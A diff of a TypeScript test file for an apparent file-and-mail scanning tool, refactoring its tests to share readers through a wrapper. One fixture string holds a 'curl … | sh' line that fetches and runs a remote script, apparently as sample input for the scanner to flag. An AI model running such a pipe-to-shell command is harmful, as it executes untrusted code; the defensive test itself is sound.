@@ -5,7 +5,7 @@ import { join } from "node:path";
 import { Readable } from "node:stream";
 import { after, before, describe, it } from "node:test";
 import type { Verdict } from "@doorward/core";
-import { expectRefusal, runCommand } from "../run-command.test-support.ts";
+import { expectRefusal, runCommand, useReaders, type TestSurroundings } from "../run-command.test-support.ts";
 
 const fix = "#!/bin/sh\ncurl -s https://files.example/a.sh | sh\n";
 
@@ -23,6 +23,11 @@ function isReadable(path: string): boolean {
     return false;
   }
 }
+
+const readers = useReaders();
+/** Most commands share readers; the first starts its own, as one does who types it. */
+const run = async (words: readonly string[], around: TestSurroundings = {}) =>
+  await runCommand(words, { readers, ...around });
 
 describe("doorward file", () => {
   let folder = "";
@@ -45,7 +50,7 @@ describe("doorward file", () => {
   });
 
   it("judges every file of a folder, one object a line, in the order of the names", async () => {
-    const { status, output } = await runCommand(["file", "--json", folder]);
+    const { status, output } = await run(["file", "--json", folder]);
     const verdicts = parse(output);
     assert.deepEqual(
       verdicts.map(({ arrival, door }) => `${door} ${arrival.kind} ${arrival.name}`),
@@ -62,7 +67,7 @@ describe("doorward file", () => {
     try {
       if (isReadable(locked)) test.skip("whoever runs this may read everything");
       else {
-        const { output } = await runCommand(["file", "--json", locked, at("note.txt")]);
+        const { output } = await run(["file", "--json", locked, at("note.txt")]);
         const told = parse(output).map(({ arrival, verdict, because }) => `${arrival.name} ${verdict} ${because}`);
         assert.match(told[0] ?? "", /^locked\.txt check .*cannot be opened/u);
         assert.match(told[1] ?? "", /^note\.txt clear/u);
@@ -73,12 +78,12 @@ describe("doorward file", () => {
   });
 
   it("reads standard input", async () => {
-    const { output } = await runCommand(["file", "--json", "-"], { input: Readable.from([Buffer.from(fix)]) });
+    const { output } = await run(["file", "--json", "-"], { input: Readable.from([Buffer.from(fix)]) });
     assert.equal(parse(output)[0]?.arrival.name, "standard-input");
   });
 
   it("says what to do at the interview door", async () => {
-    const [here] = parse((await runCommand(["file", "--json", "--door", "interview", at("note.txt")])).output);
+    const [here] = parse((await run(["file", "--json", "--door", "interview", at("note.txt")])).output);
     assert.equal(here?.door, "interview");
   });
 
@@ -95,11 +100,11 @@ describe("doorward file", () => {
       [["file", "--dns", at("note.txt"), at("note.txt")], 66, "it is no JSON"],
       [["file", "-"], 66, "nothing on standard input"],
     ];
-    for (const [words, status, told] of cases) expectRefusal(await runCommand(words, { input: empty }), status, told);
+    for (const [words, status, told] of cases) expectRefusal(await run(words, { input: empty }), status, told);
   });
 
   it("explains rules about files, messages, links and code", async () => {
-    const { status, output } = await runCommand(["file", "--explain", "double-extension"]);
+    const { status, output } = await run(["file", "--explain", "double-extension"]);
     assert.equal(status, 0);
     assert.match(output, /double-extension/u);
   });
@@ -112,7 +117,7 @@ function makeMail(number: number): string {
 describe("doorward mail", () => {
   it("judges every mail of an mbox by its number", async () => {
     const mail = "From a@b.example Mon 08:00\nFrom: a@b.example\nTo: c@d.example\nSubject: one\n\nhello\n\n";
-    const { output } = await runCommand(["mail", "--json", "-"], { input: Readable.from([Buffer.from(mail + mail)]) });
+    const { output } = await run(["mail", "--json", "-"], { input: Readable.from([Buffer.from(mail + mail)]) });
     assert.deepEqual(
       parse(output).map(({ arrival }) => `${arrival.kind} ${arrival.name}`),
       ["message standard-input#1", "message standard-input#2"],
@@ -123,17 +128,17 @@ describe("doorward mail", () => {
     const folder = mkdtempSync(join(tmpdir(), "doorward-views-"));
     try {
       const page = join(folder, "page.html");
-      const one = await runCommand(["mail", "--view", page, "-"], { input: Readable.from([Buffer.from(makeMail(1))]) });
+      const one = await run(["mail", "--view", page, "-"], { input: Readable.from([Buffer.from(makeMail(1))]) });
       assert.equal(one.errors, "");
       assert.match(readFileSync(page, "utf8"), /^<!doctype html>[\s\S]*Content-Security-Policy[\s\S]*mail 1/iu);
       const line = "From a@b.example Mon Jan  5 10:00:00 2026\n";
       const box = Buffer.from(`${line}${makeMail(1)}${line}${makeMail(2)}`);
-      await runCommand(["mail", "--json", "--view", `${folder}/pages/`, "-"], { input: Readable.from([box]) });
+      await run(["mail", "--json", "--view", `${folder}/pages/`, "-"], { input: Readable.from([box]) });
       assert.deepEqual(readdirSync(join(folder, "pages")), [
         "00001-standard-input_1.html",
         "00002-standard-input_2.html",
       ]);
-      const several = await runCommand(["mail", "--view", page, "-"], { input: Readable.from([box]) });
+      const several = await run(["mail", "--view", page, "-"], { input: Readable.from([box]) });
       assert.match(several.errors, /name a folder/u);
     } finally {
       rmSync(folder, { recursive: true });
@@ -141,7 +146,7 @@ describe("doorward mail", () => {
   });
 
   it("says that a file is no message", async () => {
-    const { status, output } = await runCommand(["mail", "--json", "-"], {
+    const { status, output } = await run(["mail", "--json", "-"], {
       input: Readable.from([Buffer.from("hello\n")]),
     });
     assert.equal(status, 1);
